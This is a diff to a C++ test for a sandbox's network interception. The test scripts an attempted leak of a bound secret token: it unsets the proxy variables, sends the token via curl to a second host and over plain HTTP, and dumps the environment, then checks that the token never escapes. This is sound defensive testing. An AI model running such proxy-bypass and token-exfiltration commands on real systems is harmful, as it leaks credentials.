@@ -11,9 +11,6 @@
 namespace writ::net_test {
 namespace {
 
-const std::string kValue = "v4lue-that-stays-outside";
-const std::string kNoProxy = "unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY\n";
-
 TEST(NetIntercept, RequestsAreJudgedInsideTls) {
   WRIT_NEEDS_CLIENTS("/usr/bin/curl");
   const Outside outside;
@@ -29,7 +26,7 @@ TEST(NetIntercept, RequestsAreJudgedInsideTls) {
 TEST(NetIntercept, Attack26_ABoundSecretIsPutInOutsideAndNeverComesBack) {
   WRIT_NEEDS_CLIENTS("/usr/bin/curl");
   const Outside outside;
-  std::ofstream(outside.File("token")) << kValue;
+  std::ofstream(outside.File("token")) << kSecretValue;
   const auto set = outside.Writ({"secret", "set", "TOKEN", "--host", "public.test", "--from", "file:" + outside.File("token")});
   ASSERT_EQ(set.status, 0) << set.err;
   const std::string use = "curl -sS -o /dev/null https://public.test:8443/path/$TOKEN\n"
@@ -37,10 +34,10 @@ TEST(NetIntercept, Attack26_ABoundSecretIsPutInOutsideAndNeverComesBack) {
   const Job job = RunJob(outside, {"--net", "public.test", "--net", "other.test", "--secret", "TOKEN"},
                          use + kNoProxy + use + "curl -sS -k -o /dev/null https://other.test:8443/other/$TOKEN\n"
                                                 "curl -sS http://public.test:8080/clear/$TOKEN; env");
-  EXPECT_THAT(outside.Arrived("http public.test"), AllOf(Contains(HasSubstr("GET /path/" + kValue)).Times(2), Not(Contains(HasSubstr("/clear/")))));
-  EXPECT_THAT(outside.Arrived("http other.test"), Not(Contains(HasSubstr(kValue))));
-  EXPECT_THAT(job.ended.out, AllOf(HasSubstr("key=writ-secret-TOKEN-"), Not(HasSubstr(kValue)))) << job.ended.err;
-  EXPECT_THAT(canon::Compact(job.bundle), AllOf(HasSubstr("TOKEN"), Not(HasSubstr(kValue))));
+  EXPECT_THAT(outside.Arrived("http public.test"), AllOf(Contains(HasSubstr("GET /path/" + kSecretValue)).Times(2), Not(Contains(HasSubstr("/clear/")))));
+  EXPECT_THAT(outside.Arrived("http other.test"), Not(Contains(HasSubstr(kSecretValue))));
+  EXPECT_THAT(job.ended.out, AllOf(HasSubstr("key=writ-secret-TOKEN-"), Not(HasSubstr(kSecretValue)))) << job.ended.err;
+  EXPECT_THAT(canon::Compact(job.bundle), AllOf(HasSubstr("TOKEN"), Not(HasSubstr(kSecretValue))));
 }
 
 }  // namespace
